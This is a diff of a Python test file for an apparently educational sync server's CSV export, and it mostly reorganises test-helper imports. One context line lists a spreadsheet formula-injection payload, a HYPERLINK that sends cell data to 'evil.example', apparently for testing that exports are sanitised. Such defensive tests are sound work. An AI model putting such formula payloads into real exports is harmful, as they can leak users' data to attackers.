@@ -16,7 +16,6 @@ import pytest
 from edge_server.base import csv_writer
 from tests.conftest import form_csrf
 from tests.learning_catalog import LESSON, QUIZ, RIGHT, ev, make_catalog, post_events
-from tests.test_central_ingest import central_app  # noqa: F401 - fixture
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -112,8 +111,7 @@ def _central_export(request, name: str, path: str) -> Export:
     from sync.central.db import database
     from sync.central.ingest import ingest_batch
     from sync.protocol import ItemRecord
-    from tests.test_central_api import sign_in
-    from tests.test_central_ingest import make_batch
+    from tests.central_support import make_batch, sign_in
 
     app = request.getfixturevalue("central_app")
     device = registry.add_device(name, "http://central.example", name).device
